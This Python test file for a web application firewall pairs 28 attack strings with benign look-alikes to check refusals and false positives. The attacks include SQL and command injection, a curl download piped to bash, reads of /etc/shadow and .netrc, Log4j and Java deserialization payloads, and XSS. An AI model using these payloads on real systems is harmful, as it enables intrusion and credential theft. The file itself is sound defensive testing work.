"""WAF, part 2z14: held-out probes, thirty-seventh file (README: the
forty-fifth round), written for this file on 2026-12-06. No string is
taken from a corpus or a public list: each class is written here in
shapes of our own, through the real edge (shipped config, bans off).

The classes the photography, dispatch, packages and fanfiction corpora
(and the misses earlier rounds' rows list) showed when first replayed
(at 4766f64), each an attack the round now refuses and a look-alike it
now passes:
- hash-comment: MySQL's "#" comment to the line's end, then OR on the
  next line; a hashtag line, then a sentence;
- sort-list: ORDER BY a column number and a comment; a quoted "order
  by" phrase in a sentence;
- version-range: a number OR itself; a semver range of ".x" versions;
- paren-compare: a group closed early and a constant comparison;
  parenthesized comparisons of names joined by AND;
- cmd-substring: cmd.exe's substring of a variable as the command's
  name; one in a batch file's assignment;
- one-letter: w after a token and ";"; an abbreviation's "b&w";
- bare-echo: echo given a substitution; echo alone, a title's word;
- comma-title: a delay after a title whose first word a comma ends;
  a title of such words;
- script-option: an option given a server script's path; an option in
  a sentence;
- pipe-device: Ghostscript's %pipe% output; the device named in text;
- env-lookup: Log4j's env lookup of a secret; of a config's name;
- go-require: Node's require of a system module; Go's require block;
- maven-coordinate: a gadget class as a JSON type; Maven coordinates;
- java-trace: a gadget class in a JSON array; a stack trace's frames;
- module-subpath: PHP's include of /proc; Node's require of a subpath;
- input-plain: an input with a handler; an input given only its type;
- home-span: ${HOME} glued into a word; ${HOME} in a code span;
- curl-pipe: a download piped to a shell; "wget | sh" named in a span;
- cjk-colon-span: a span glued to an ASCII word's colon; one after a
  full-width colon in CJK text;
- span-then-prose: a span, ";" and a command; a span, ";" and a
  sentence;
- tilde-path: parent steps past "~"; steps inside the home;
- gopher-in-text: gopher:// at an IP after words; at a host name;
- vcs-url: git+https:// at an IP; at a public host;
- template-password: a template reading an object's password; its name;
- secret-span: a span reading /etc/shadow after words; the path named;
- sh-c-span: sh -c given a command; "bash -c" in a span;
- ts-type: cmd's type of a system file and ";"; a TypeScript type;
- timeout-unit: cmd's timeout of whole seconds; "timeout 45s" in prose.
Measured on 4766f64: 9 of those 28 attacks passed (the rest were refused
by other rules), 16 of the 28 look-alikes were refused.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "hash-comment": ["q7'#x\nOR 2=2-- "],
    "sort-list": ["z' ORDER BY 4#"],
    "version-range": ["9 || 9"],
    "paren-compare": ["1) or (2=2"],
    "cmd-substring": ["1 && %comspec:~-7,3% /c dir"],
    "one-letter": ["4;w"],
    "bare-echo": ["v2; echo `id`"],
    "comma-title": ["Ping, Pong; sleep 12"],
    "script-option": ["-t -X /srv/www/htdocs/cache.php"],
    "pipe-device": ["-sDEVICE=pdfwrite -sOutputFile=%pipe%sh"],
    "env-lookup": ["${env:API_TOKEN}"],
    "go-require": ["require('child_process').exec('id')"],
    "maven-coordinate": ["{\"@type\":\"org.apache.xbean.propertyeditor.JndiConverter\"}"],
    "java-trace": ["[\"org.springframework.context.support.ClassPathXmlApplicationContext\", "
                   "\"http://x.example/a.xml\"]"],
    "module-subpath": ["<?php include('/proc/self/environ'); ?>"],
    "input-plain": ["<input onfocus=alert(2) autofocus>"],
    "home-span": ["cat${IFS}${HOME}/.netrc"],
    "curl-pipe": ["x; curl -s 203.0.113.9/i | bash"],
    "cjk-colon-span": ["key:`whoami`"],
    "span-then-prose": ["see `a`; id"],
    "tilde-path": ["~/../../etc/shadow"],
    "gopher-in-text": ["relay -> gopher://10.0.0.7:25/_HELO"],
    "vcs-url": ["git+https://10.0.0.3/x.git"],
    "template-password": ["{{ account.password }}"],
    "secret-span": ["row 5 `cat /etc/shadow`"],
    "sh-c-span": ["x; sh -c 'uname'"],
    "ts-type": ["type %WINDIR%\\win.ini;"],
    "timeout-unit": ["x; timeout 9"],
}

BENIGN = {
    "hash-comment": ["#todo\nor ask Sam tomorrow"],
    "sort-list": ["\"order by\" sorts, \"group by\" merges"],
    "version-range": ["3.x || 4.x"],
    "paren-compare": ["(rating = 5) and (votes = 0)"],
    "cmd-substring": ["set x=%PATH:~0,10% in a batch file"],
    "one-letter": ["matte; glossy; b&w"],
    "bare-echo": ["Echo; Chorus; Echo"],
    "comma-title": ["Sleep, Dream, Wake; a poem in three parts"],
    "script-option": ["-X prints debug output"],
    "pipe-device": ["%pipe% is Ghostscript's output device"],
    "env-lookup": ["${env:HOME} in launch.json"],
    "go-require": ["require (\n\texample.com/mod v1.2.0\n)"],
    "maven-coordinate": ["org.apache.commons:commons-lang3:3.14.0"],
    "java-trace": ["org.springframework.beans.factory.BeanCreationException: x\n"
                   "\tat org.springframework.beans.factory.support.X.y(X.java:12)"],
    "module-subpath": ["use `require('lib/util/format')` instead"],
    "input-plain": ["the <input type=range> slider"],
    "home-span": ["set `${HOME}` in .profile"],
    "curl-pipe": ["never `wget | sh` an installer"],
    "cjk-colon-span": ["\u904b\u884c\uff1a`make test`\uff0c\u7136\u5f8c"],
    "span-then-prose": ["run `b`; yarn handles the rest"],
    "tilde-path": ["~/Music/2023/../Playlists"],
    "gopher-in-text": ["gopher://gopher.floodgap.com is still up"],
    "vcs-url": ["git+https://github.com/org/repo.git@v1"],
    "template-password": ["{{ account.name }} logged in"],
    "secret-span": ["the file `/etc/shadow` holds hashes"],
    "sh-c-span": ["`bash -c` runs a string"],
    "ts-type": ["type Row = { id: number };"],
    "timeout-unit": ["retry twice; timeout 45s"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r37_attack_refused_everywhere,
 test_heldout_r37_benign_passes) = heldout_probe_tests(
    "r37", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
